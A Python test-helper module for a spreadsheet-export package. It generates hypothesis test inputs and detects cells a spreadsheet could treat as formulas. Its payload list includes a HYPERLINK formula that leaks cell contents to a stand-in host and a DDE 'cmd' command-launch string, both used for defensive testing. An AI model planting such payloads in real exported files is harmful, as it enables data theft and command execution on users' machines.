"""Texts that would break a file or become a formula, and an eye for formulas."""

import re
import unicodedata
from collections.abc import Iterable, Iterator

from hypothesis import strategies as st

from pressmark.export import Cell, Sheet

SIGNS = "=+-@＝＋－＠"
FORMULAS = (
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("http://a.example/?"&A1,"look")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    *(
        f"{before}=1+1"
        for before in (" ", "\t", "\r", "\n", "\r\n", "\xa0", "\u200b", "\ufeff", "\u202e", "\0")
    ),
    *(f"a{edge}{before}=1+1" for edge in ";\t\n\r" for before in ("", " ", '"', '""', '" ', "\xa0")),
    '";=1+1;"',
    '"\n=1+1\n"',
    "a;;=1+1",
    'a;"',
    '"=1+1',
    "\ud83d=1+1",
)
CHARACTERS = st.characters(exclude_categories=())
TEXTS = (
    st.text(CHARACTERS)
    | st.text(st.sampled_from(f"{SIGNS};,\t\r\n\"' a1\u200b\ufeff\0"), max_size=12)
    | st.sampled_from(FORMULAS)
)
TABLES = st.lists(st.lists(TEXTS, min_size=2, max_size=4), max_size=4)
# A number with a sign of a currency, per cent or a word of letters: no spreadsheet can work it out.
FIGURE = re.compile(r"[-+＋－][$€£¥]?\d[\d.,']*(?:[eE][-+]?\d{1,3})?(?:[%‰€$£¥]|[^\W\d_]{1,32})?\.?")


def make_sheet(*rows: Iterable[Cell], header: tuple[str, ...] = (), name: str = "Articles") -> Sheet:
    """A sheet of these rows, out of a generator."""
    return Sheet(name, header, (tuple(row) for row in rows))


def find_formulas(rows: Iterable[Iterable[str]]) -> Iterator[str]:
    """The cells that a spreadsheet might take for a formula: behind white space and what is not seen.

    A number is none (`FIGURE`).
    """
    for row in rows:
        for cell in row:
            seen = "".join(character for character in cell if unicodedata.category(character)[0] not in "ZC")
            # An empty cell behind a number, where cells are parted elsewhere: nothing that can be worked out.
            seen = seen.replace(',""', "")
            if seen[:1] in tuple(SIGNS) and not FIGURE.fullmatch(seen):
                yield cell


def keep(text: str) -> str:
    """What a file can hold of a text (https://www.w3.org/TR/xml/#charsets)."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join("\ufffd" if "\ud800" <= each <= "\udfff" else each for each in lines if _may_stand(each))


def _may_stand(character: str) -> bool:
    return character in "\t\n" or (character >= " " and character not in "\x7f\ufffe\uffff")
